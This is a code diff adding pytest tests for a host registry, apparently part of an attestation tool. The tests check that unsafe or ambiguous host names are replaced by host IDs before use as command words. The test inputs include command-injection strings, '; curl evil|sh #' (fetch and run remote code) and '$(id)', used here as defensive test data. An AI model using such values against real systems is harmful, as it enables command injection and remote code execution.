@@ -54,6 +54,33 @@ def host():
     return replace(SoftwareAttester(tag=bytes(range(32))).record(), pool_id="p-1", name="host-1", serial=1)
 
 
+def enrolled(*names):
+    """A registry with a host of each name."""
+    records = [
+        replace(SoftwareAttester().record(), pool_id="p-1", name=name, host_id=f"{at:08x}-1111-4111-8111-0")
+        for at, name in enumerate(names)
+    ]
+    return History().add(bodies.pool_added(POOL), *map(bodies.host_enrolled, records))
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["--all", "-h", "", "host 1", "; curl evil|sh #", "$(id)", "h\u00f6st", "a\nb", "'", "x" * 500 + "/"],
+)
+def test_names_that_are_not_fit_for_a_command(name):
+    registry = enrolled(name, "host2")
+    assert registry.word_for(registry.hosts()[0].host_id) == "00000000-1111-4111-8111-0"
+    assert registry.word_for(registry.hosts()[1].host_id) == "host2"
+
+
+def test_names_that_mean_several_hosts():
+    registry = enrolled("host", "host", "00000000-1111-4111-8111-0", "rack7-host_4.lab")
+    words = [registry.word_for(host.host_id) for host in registry.hosts()]
+    assert [registry.host(word) for word in words] == list(registry.hosts())
+    assert words[:3] == [host.host_id for host in registry.hosts()[:3]] and words[3] == "rack7-host_4.lab"
+    assert registry.word_for("; no host") == "'; no host'"
+
+
 def reference(host, **changes):
     boot_log = (BootEvent(9, {"sha256": bytes(32)}, "xen.gz"),)
     made = SoftwareAttester().reference(hosts=frozenset({host.host_id}), groups=frozenset())
